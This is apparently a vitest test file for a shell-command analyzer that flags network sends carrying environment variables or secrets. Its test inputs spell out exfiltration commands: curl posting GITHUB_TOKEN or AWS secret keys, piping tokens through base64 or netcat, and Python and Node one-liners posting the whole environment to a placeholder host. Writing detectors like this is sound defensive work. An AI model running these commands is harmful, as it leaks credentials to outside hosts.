import { describe, expect, it } from "vitest";
import { networkSends } from "../../src/shell/index.ts";
import { analyze, find } from "./helpers.ts";

const sends = (source: string) =>
  networkSends(analyze(source)).map((s) => ({
    hosts: s.peers.map((p) => p.host),
    env: [...s.env],
    environment: s.environment,
    stdin: s.stdinFrom.length > 0,
  }));

describe("words record the run-time variables they expand", () => {
  it.each([
    ['curl -d "token=$GITHUB_TOKEN" x', "-d", ["GITHUB_TOKEN"]],
    ["curl -d k=${AWS_SECRET_ACCESS_KEY:-none} x", "-d", ["AWS_SECRET_ACCESS_KEY"]],
    ['curl -d "$A$B" x', "-d", ["A", "B"]],
  ])("%s", (source, option, names) => {
    const word = find(analyze(source), "curl").args.find((w) => w.text !== option && w.text !== "x");
    expect(word?.env).toEqual(names);
  });

  it("variables assigned on the line are known, not run-time ones", () => {
    expect(find(analyze('T=1; curl -d "t=$T" x'), "curl").args[1]?.env).toBeUndefined();
    expect(find(analyze('curl -d "home=$HOME" x'), "curl").args[1]?.env).toBeUndefined();
  });
});

describe("network sends", () => {
  it("request data, URLs and request items carry variables; headers and credentials do not", () => {
    expect(sends('curl -d "t=$TOKEN" https://x.example/p')).toEqual([
      { hosts: ["x.example"], env: ["TOKEN"], environment: false, stdin: false },
    ]);
    expect(sends('curl "https://x.example/?t=$TOKEN"')[0]?.env).toEqual(["TOKEN"]);
    expect(sends('curl -H "Authorization: Bearer $TOKEN" -u "a:$PASSWORD" https://x.example')[0]?.env).toEqual([]);
    expect(sends('wget --header="Authorization: $TOKEN" --post-data="k=$KEY" https://x.example')[0]?.env).toEqual([
      "KEY",
    ]);
    expect(sends('http POST https://x.example k=$KEY "Authorization:Bearer $TOKEN"')[0]?.env).toEqual(["KEY"]);
  });

  it("stdin sent as the body carries what printers and herestrings give it", () => {
    expect(sends('echo "$TOKEN" | base64 | curl -d @- https://x.example')).toEqual([
      { hosts: ["x.example"], env: ["TOKEN"], environment: false, stdin: true },
    ]);
    expect(sends('nc x.example 443 <<< "$TOKEN"')[0]?.env).toEqual(["TOKEN"]);
    expect(sends("socat - TCP:x.example:443")[0]?.hosts).toEqual(["x.example"]);
    // curl without a stdin body does not send what is piped in
    expect(sends('echo "$TOKEN" | curl https://x.example')[0]).toMatchObject({ env: [], stdin: false });
  });

  it("peers: schemes, user info, ports, brackets, run-time hosts", () => {
    expect(sends('curl https://u:p@Host.Example:8443/a http://[::1]:9000/ localhost:3000 "$URL/x"')[0]?.hosts).toEqual([
      "host.example",
      "::1",
      "localhost",
      undefined,
    ]);
  });

  it("interpreter code that sends the whole environment", () => {
    expect(sends(`python3 -c 'import os,requests; requests.post("https://x.example", data=dict(os.environ))'`)).toEqual(
      [{ hosts: ["x.example"], env: [], environment: true, stdin: false }],
    );
    expect(sends(`node -e 'fetch("https://x.example", {body: JSON.stringify(process.env)})'`)[0]?.environment).toBe(
      true,
    );
    // one variable read by name is not the whole environment
    expect(
      sends(`python3 -c 'import os,requests; requests.get("https://x.example", headers={"A": os.environ["T"]})'`),
    ).toEqual([]);
    expect(sends(`node -e 'console.log(process.env)'`)).toEqual([]);
  });
});

describe("interpreter code reading variables by name", () => {
  it("reads in request data count, reads in headers and auth arguments do not", () => {
    expect(
      sends(
        `python3 -c 'import os,requests; requests.post("https://x.example", data={"k": os.environ["A"]}, headers={"Authorization": os.environ["B"]}, auth=("u", os.getenv("C")))'`,
      ),
    ).toEqual([{ hosts: ["x.example"], env: ["A"], environment: false, stdin: false }]);
    expect(
      sends(`node -e 'fetch("https://x.example/?t=" + process.env.T, {headers: {"X-Key": process.env.K}})'`)[0]?.env,
    ).toEqual(["T"]);
  });
});
